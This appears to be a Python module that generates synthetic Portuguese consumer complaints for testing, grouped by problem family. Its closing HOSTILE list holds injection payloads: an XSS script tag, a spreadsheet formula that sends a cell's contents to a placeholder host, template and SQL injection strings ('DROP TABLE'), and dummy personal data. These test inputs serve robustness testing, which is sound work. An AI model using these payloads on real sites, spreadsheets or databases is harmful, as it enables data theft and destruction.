"""What consumers write, by family of problem. Sentences are drawn and joined, so no two are alike.

Slots: {o} "o celular X", {do} "do celular X", {um} "um celular X", {no} "no celular X"; {loja},
{valor}, {pedido}, {sac}, {quando}, {dias}, {parcelas}.
"""

# Which family a problem of the taxonomy belongs to: the first whose word stands in its text.
FAMILIES = (
    ("delivery", ("Não entrega", "atraso do boleto", "Não envio")),
    ("incomplete", ("incompleto / diferente", "Embalagem", "montagem", "peça de reposição")),
    ("negative_listing", ("Negativação", "ofensa, constrangimento ou ameaça")),
    ("unknown_charge", ("não reconhecid", "não contratado", "não solicitad", "Clonagem")),
    ("refund", ("devolução de valores", "devolução do produto", "arrependimento")),
    ("cancel", ("após cancelamento", "cancelar", "rescindir", "Fidelização", "cancelamento")),
    ("debt", ("Renegociação", "juros", "boleto de quitação", "saldo devedor")),
    ("coverage", ("cobertura", "indenização", "Suspensão", "Bloqueio")),
    ("charge", ("Cobrança", "duplicidade", "tarifas", "Reajuste")),
    ("support", ("SAC", "atendimento", "contato", "obter protocolo")),
    ("offer", ("Oferta", "ublicidade", "Venda casada", "Divergência de Preço", "Informações", "contratar")),
    ("privacy", ("Dados pessoais",)),
    ("safety", ("Risco", "Recall")),
    ("defect", ("danificado", "não funciona", "Funcionamento", "ualidade")),
)

OPENINGS = {
    "delivery": (
        "Comprei {um} em {quando} pelo site da {loja}, pedido {pedido}, e até hoje não recebi.",
        "No dia {quando} fechei a compra de {um} por {valor}, com entrega prometida para {dias} dias úteis. O "
        "prazo venceu e nada chegou.",
        "Estou esperando {o} desde {quando}. O rastreamento do pedido {pedido} está parado há {dias} dias na "
        "mesma cidade.",
    ),
    "incomplete": (
        "Recebi {o} em {quando} e, ao abrir a caixa, faltavam peças.",
        "O pedido {pedido} chegou diferente do que comprei: outra cor e outro modelo.",
        "A montagem {do} foi marcada três vezes. Na última vieram, montaram errado e foram embora.",
    ),
    "negative_listing": (
        "Descobri em {quando} que meu nome está negativado pela {loja} por uma dívida de {valor} que já paguei.",
        "A {loja} colocou meu CPF no cadastro de inadimplentes sem me avisar e sem que eu deva nada.",
        "Recebo ligações de cobrança da {loja} até dez vezes por dia, inclusive aos domingos, com ameaças.",
    ),
    "unknown_charge": (
        "Apareceu na minha fatura uma cobrança de {valor} referente a {um} que eu nunca contratei.",
        "Não reconheço a compra de {valor} feita em {quando} em meu nome na {loja}.",
        "Desde {quando} a {loja} me cobra todo mês por um serviço que não pedi.",
    ),
    "refund": (
        "Devolvi {o} em {quando}, dentro dos sete dias, e até agora a {loja} não devolveu os {valor}.",
        "Cancelei o pedido {pedido} no mesmo dia da compra. O estorno de {valor} foi prometido em {dias} dias e "
        "não aconteceu.",
        "A {loja} confirmou que recebeu a devolução, mas o dinheiro não voltou para o meu cartão.",
    ),
    "cancel": (
        "Pedi o cancelamento em {quando}, protocolo {sac}, e continuam cobrando {valor} por mês.",
        "Tento cancelar há {dias} dias e ninguém na {loja} resolve.",
        "Para cancelar, a {loja} quer que eu pague uma multa de {valor} que ninguém informou na contratação.",
    ),
    "debt": (
        "Quero quitar o meu contrato com a {loja} e não consigo o boleto com o saldo correto.",
        "O valor cobrado pela {loja} está com juros que não entendo: a dívida era de {valor} e quase dobrou.",
        "Fiz um acordo em {quando} em {parcelas} parcelas, paguei a primeira, e o sistema da {loja} não reconhece.",
    ),
    "coverage": (
        "Acionei a cobertura em {quando}, sinistro {sac}, e a {loja} negou sem explicar o motivo.",
        "Meu celular foi roubado, enviei o boletim de ocorrência no dia seguinte, e a indenização de {valor} não sai.",
        "A {loja} bloqueou o meu acesso sem aviso em {quando} e desde então não consigo usar nada.",
    ),
    "charge": (
        "Fui cobrado duas vezes pelo pedido {pedido}: dois lançamentos de {valor} na mesma fatura.",
        "A {loja} está cobrando uma taxa de {valor} que não aparece em lugar nenhum do contrato.",
        "Paguei {valor} em {quando} por boleto, tenho o comprovante, e a {loja} insiste que está em aberto.",
    ),
    "support": (
        "Há {dias} dias tento falar com a {loja} sobre {o} e não consigo.",
        "O atendimento da {loja} é um labirinto: o robô não entende, a fila nunca anda e a ligação cai.",
        "Já abri quatro protocolos na {loja}, o último é {sac}, e todos foram encerrados sem resposta.",
    ),
    "offer": (
        "O anúncio da {loja} dizia {valor} com frete grátis. No fechamento o preço {do} mudou.",
        "Comprei {o} por causa de uma promoção com brinde. O brinde não veio e agora dizem que acabou.",
        "Na loja me disseram que {o} tinha garantia de dois anos; em casa vi que é de noventa dias.",
    ),
    "privacy": (
        "Outra pessoa recebeu os dados da minha compra na {loja}, com meu endereço e telefone.",
        "A {loja} continua usando meus dados para propaganda depois de eu pedir a exclusão em {quando}.",
    ),
    "safety": (
        "Levei um choque ao ligar {o} pela segunda vez. Por sorte ninguém se machucou.",
        "O cabo {do} derreteu enquanto carregava e marcou a parede do quarto da minha filha.",
    ),
    "defect": (
        "Comprei {um} em {quando}, pedido {pedido}, e com {dias} dias de uso parou de funcionar.",
        "Estou com um problema {no} desde que chegou: liga, trava e desliga sozinho.",
        "Mandei {o} para a assistência em {quando}. Voltou com o mesmo defeito.",
    ),
}

FACTS = {
    "delivery": (
        "A transportadora diz que o endereço não foi localizado, mas moro aqui há quinze anos e recebo "
        "encomendas toda semana.",
        "Consta como entregue a uma pessoa que não existe neste endereço.",
        "Remarcaram a entrega três vezes e perdi três dias de trabalho esperando.",
    ),
    "incomplete": (
        "Faltam o manual e dois parafusos longos, e uma das portas veio riscada.",
        "Tirei fotos de tudo na hora, na frente do entregador.",
        "Disseram que a peça está em falta e que não há previsão.",
    ),
    "negative_listing": (
        "Por causa disso o banco recusou o meu financiamento.",
        "Tenho o comprovante do pagamento, feito dois dias antes do vencimento.",
        "Nunca recebi carta nem mensagem avisando da inclusão.",
    ),
    "unknown_charge": (
        "Nunca forneci meus dados nem assinei nada.",
        "O endereço da compra é de outro estado, onde nunca estive.",
        "Bloqueei o cartão, mas as parcelas seguintes continuaram vindo.",
    ),
    "refund": (
        "Cada atendente dá um prazo diferente: cinco, dez, trinta dias úteis.",
        "Dizem que o problema é do banco; o banco mostra que nenhum estorno foi pedido.",
        "Tenho o código de postagem e o comprovante de recebimento da loja.",
    ),
    "cancel": (
        "O site só tem a opção de contratar; a de cancelar leva a uma página em branco.",
        "Transferem a ligação de setor em setor até cair.",
        "Ofereceram desconto, recusei, e mesmo assim a cobrança continuou.",
    ),
    "debt": (
        "Peço o demonstrativo do cálculo e enviam sempre o mesmo resumo sem detalhes.",
        "Perdi o emprego e quero pagar, mas as parcelas oferecidas são maiores que as de antes.",
        "O aplicativo mostra um valor e a central mostra outro.",
    ),
    "coverage": (
        "Enviei toda a documentação duas vezes e o sistema sempre volta para «em análise».",
        "A apólice está em dia e o evento está claramente entre as coberturas.",
        "Pediram uma nota fiscal que já estava anexada desde o primeiro dia.",
    ),
    "charge": (
        "Mandei o comprovante pelo aplicativo e por e-mail.",
        "A atendente reconheceu o erro, mas no mês seguinte a cobrança voltou.",
        "Somando tudo, já paguei bem mais do que o combinado.",
    ),
    "support": (
        "Fiquei 52 minutos na linha e a ligação caiu quando ia ser transferida.",
        "O chat diz que o horário de atendimento terminou às duas da tarde.",
        "Uma atendente foi grosseira e disse que eu procurasse os meus direitos.",
    ),
    "offer": (
        "Guardei a imagem do anúncio com data e hora.",
        "O vendedor incluiu um seguro sem dizer, só percebi na nota.",
        "Quando reclamei, disseram que o estoque da promoção era limitado, o que não estava escrito.",
    ),
    "privacy": (
        "Recebi a mensagem de um desconhecido com o meu nome completo e o meu pedido.",
        "Pedi para saber quais dados guardam e com quem foram divididos, e não respondem.",
    ),
    "safety": (
        "Guardei o aparelho como está, com fotos, para quem quiser examinar.",
        "Na internet encontrei outros casos iguais do mesmo lote.",
    ),
    "defect": (
        "A assistência autorizada da minha cidade fechou e a outra fica a 140 km.",
        "Pediram o número de série, enviei, e pararam de responder.",
        "O laudo fala em mau uso, o que não é verdade: está na caixa quase sem uso.",
    ),
}

COMMON_FACTS = (
    "Liguei para o SAC em {quando} e me deram o protocolo {sac}.",
    "Entrei em contato pelo aplicativo, por telefone e por e-mail, sem solução.",
    "Cada vez que ligo preciso contar a história toda desde o começo.",
    "Paguei à vista, com muito esforço.",
    "Sou cliente da {loja} há mais de oito anos e nunca passei por isso.",
    "Minha mãe, de 78 anos, depende disso e está sendo prejudicada.",
    "Já perdi a conta de quantas vezes prometeram retorno em 48 horas.",
    "Prometeram resposta até a semana passada e ninguém ligou.",
    "Tenho todos os e-mails, as gravações e os comprovantes guardados.",
    "Acho um desrespeito com o consumidor.",
    "Paguei em {parcelas} vezes e as parcelas continuam vindo normalmente.",
    "Não é pelo valor, é pelo descaso.",
)

CLOSINGS = (
    "Espero uma solução por este canal antes de procurar a Justiça.",
    "Aguardo retorno.",
    "Obrigado pela atenção.",
    "Se não resolverem, vou ao Procon e ao juizado especial.",
    "Peço providências com urgência.",
    "",
    "",
)

REQUESTS = {
    "delivery": (
        "Quero a entrega imediata do produto ou a devolução de {valor}.",
        "Entrega em até cinco dias, com data e período confirmados.",
    ),
    "incomplete": (
        "Envio das peças que faltam e nova montagem.",
        "Troca pelo produto que comprei, sem custo de frete.",
    ),
    "negative_listing": (
        "Retirada do meu nome dos cadastros e carta de quitação.",
        "Que parem as ligações e confirmem por escrito que não devo nada.",
    ),
    "unknown_charge": (
        "Cancelamento da cobrança e devolução em dobro do que foi pago.",
        "Estorno de {valor} e explicação de como meus dados foram usados.",
    ),
    "refund": ("Estorno de {valor} no meu cartão.", "Devolução do valor, corrigido, por Pix."),
    "cancel": (
        "Cancelamento sem multa e devolução das parcelas cobradas depois do pedido.",
        "Confirmação do cancelamento por escrito.",
    ),
    "debt": (
        "Boleto de quitação com o desconto dos juros futuros.",
        "Revisão do cálculo e parcelas que eu consiga pagar.",
    ),
    "coverage": (
        "Pagamento da indenização de {valor}.",
        "Desbloqueio imediato e explicação do motivo.",
    ),
    "charge": (
        "Devolução de {valor} cobrado a mais.",
        "Correção da fatura e baixa do boleto que já paguei.",
    ),
    "support": (
        "Um atendimento humano que resolva o meu caso.",
        "Retorno por telefone em horário comercial, com solução.",
    ),
    "offer": (
        "Cumprimento da oferta como foi anunciada.",
        "Devolução do valor do seguro que não pedi.",
    ),
    "privacy": (
        "Exclusão dos meus dados e resposta por escrito sobre o ocorrido.",
        "Saber quem teve acesso aos meus dados.",
    ),
    "safety": (
        "Recolhimento do aparelho, devolução do valor e laudo.",
        "Substituição por outro modelo, seguro.",
    ),
    "defect": (
        "Troca por um produto novo ou devolução de {valor}.",
        "Conserto definitivo em até dez dias ou o meu dinheiro de volta.",
    ),
}

SHORT = (
    "Comprei e não chegou. Quero meu dinheiro.",
    "Produto com defeito. Ninguém resolve.",
    "Cobrança indevida de novo!!! Já é o terceiro mês.",
    "NÃO CONSIGO FALAR COM NINGUÉM NESSA EMPRESA",
)

# Texts that try whoever shows, exports or searches them.
HOSTILE = (
    "<script>alert('reclamação')</script><img src=x onerror=\"alert(1)\"> O site <b>não</b> funciona & o SAC "
    "também não.",
    '=HYPERLINK("http://exemplo.example/?c="&A1;"clique aqui")\n+SOMA(1;2)\n-10%\n@cmd\nA planilha que me '
    "enviaram tinha isto.",
    "Comprei o celular 📱 e chegou 💔 quebrado 😡😡 … família 👨\u200d👩\u200d👧\u200d👦 triste, bandeira 🇧🇷, nota 0️⃣. "
    "Resolvam 🙏🏽",
    "O texto do produto veio em árabe: \u202eهذا المنتج لا يعمل\u202c e em hebraico: שלום עולם. Não entendi "
    "nada, quero em português.",
    "Pala\u200bvras com es\u200bpaços in\u200bvisíveis\ufeff e hí\u00adfens, espaço\u00a0duro,\ttabulação e "
    "controle\x0b vertical.",
    "Já escapado: &lt;b&gt;negrito&lt;/b&gt; &amp;amp; R&#36; 10 {{ 7*7 }} {% include 'x' %} ${7*7} '; DROP "
    "TABLE reclamacoes; --",
    "Meu CPF é 529.982.247-25, cartão 4111 1111 1111 1111, e-mail fulano@example.com, telefone (11) 98888-7777, "
    "CNPJ 11.222.333/0001-81. Podem me ligar.",
    "Linha um\r\nLinha dois\n\n\n\nLinha depois de vazias\r\n\r\n   recuada   \n" + "palavramuitolonga" * 20,
    "N\u0303a\u0303o normalizado (acento separado) e Não normalizado (acento junto) devem ser a mesma coisa.",
)
